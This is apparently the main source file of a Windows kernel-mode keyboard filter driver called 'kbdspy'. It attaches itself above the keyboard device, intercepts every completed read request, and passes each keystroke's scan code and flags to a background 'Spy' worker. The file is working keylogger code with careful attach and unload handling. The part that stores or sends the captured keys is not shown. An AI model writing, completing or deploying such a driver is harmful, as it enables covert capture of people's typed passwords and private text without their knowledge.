#include "kbdspy.h"

using ks::Spy;

extern "C" DRIVER_INITIALIZE DriverEntry;

namespace {

NTSTATUS PassThrough(PDEVICE_OBJECT, PIRP Irp)
{
    IoSkipCurrentIrpStackLocation(Irp);
    return IoCallDriver(Spy::Lower, Irp);
}

NTSTATUS ReadDone(PDEVICE_OBJECT, PIRP Irp, PVOID)
{
    if (NT_SUCCESS(Irp->IoStatus.Status)) {
        auto data = static_cast<PKEYBOARD_INPUT_DATA>(Irp->AssociatedIrp.SystemBuffer);
        auto n = Irp->IoStatus.Information / sizeof(KEYBOARD_INPUT_DATA);
        for (ULONG_PTR i = 0; i < n; i++)
            Spy::Push(data[i].MakeCode, data[i].Flags);
    }
    if (Irp->PendingReturned)
        IoMarkIrpPending(Irp);
    InterlockedDecrement(&Spy::Pending);
    return STATUS_CONTINUE_COMPLETION;
}

NTSTATUS Read(PDEVICE_OBJECT, PIRP Irp)
{
    IoCopyCurrentIrpStackLocationToNext(Irp);
    IoSetCompletionRoutine(Irp, ReadDone, nullptr, TRUE, TRUE, TRUE);
    InterlockedIncrement(&Spy::Pending);
    return IoCallDriver(Spy::Lower, Irp);
}

void Unload(PDRIVER_OBJECT)
{
    // 1. stop new irps reaching us
    IoDetachDevice(Spy::Lower);

    // 2. the outstanding read completes with the next key press
    LARGE_INTEGER wait;
    wait.QuadPart = -10LL * 1000 * 50;   // 50 ms
    while (Spy::Pending > 0) {
        KeDelayExecutionThread(KernelMode, FALSE, &wait);
    }

    // 3. nothing calls us anymore
    IoDeleteDevice(Spy::Filter);
    Spy::Filter = nullptr;

    // 4. drain and stop the worker last, the completion routine feeds it
    Spy::StopWorker();
    KS_LOG("unloaded");
}

} // namespace

extern "C" NTSTATUS DriverEntry(PDRIVER_OBJECT DriverObject, PUNICODE_STRING)
{
    NTSTATUS status;
    UNICODE_STRING target = RTL_CONSTANT_STRING(KS_TARGET);

    Spy::InitState();

    for (auto& fn : DriverObject->MajorFunction)
        fn = PassThrough;
    DriverObject->MajorFunction[IRP_MJ_READ] = Read;

    status = Spy::StartWorker();
    if (!NT_SUCCESS(status)) {
        KS_LOG("worker failed 0x%08X", status);
        return status;
    }

    status = IoCreateDevice(DriverObject, 0, nullptr, FILE_DEVICE_KEYBOARD, 0, FALSE, &Spy::Filter);
    if (!NT_SUCCESS(status)) {
        KS_LOG("IoCreateDevice failed 0x%08X", status);
        Spy::StopWorker();
        return status;
    }

    status = IoAttachDevice(Spy::Filter, &target, &Spy::Lower);
    if (!NT_SUCCESS(status)) {
        KS_LOG("IoAttachDevice(%wZ) failed 0x%08X", &target, status);
        IoDeleteDevice(Spy::Filter);
        Spy::Filter = nullptr;
        Spy::StopWorker();
        return status;
    }

    Spy::Filter->Flags |= Spy::Lower->Flags & (DO_BUFFERED_IO | DO_DIRECT_IO | DO_POWER_PAGABLE);
    Spy::Filter->DeviceType = Spy::Lower->DeviceType;
    Spy::Filter->Flags &= ~DO_DEVICE_INITIALIZING;

    DriverObject->DriverUnload = Unload;
    KS_LOG("attached to %wZ", &target);
    return STATUS_SUCCESS;
}
